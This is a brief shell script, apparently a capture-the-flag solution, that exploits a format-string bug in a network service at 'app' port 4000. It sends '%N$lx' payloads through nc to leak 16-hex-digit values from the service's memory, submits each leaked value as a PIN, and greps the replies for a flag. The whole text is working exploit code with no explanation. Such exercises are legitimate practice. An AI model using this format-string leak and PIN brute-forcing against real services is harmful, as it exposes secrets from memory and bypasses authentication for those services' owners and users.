#-- the PIN of one visit in the next
leak() { for place in $(seq "$1" "$2"); do echo "say %$place\$lx"; done | nc -N -w 5 app 4000 | grep -o '\b[0-9a-f]\{16\}\b'; }
for pin in $(leak 6 16; leak 17 27; leak 28 38); do
    echo "pin $pin" | nc -N -w 5 app 4000
done > /tmp/answers
grep -o 'flag{[0-9a-f]*}' /tmp/answers || echo none
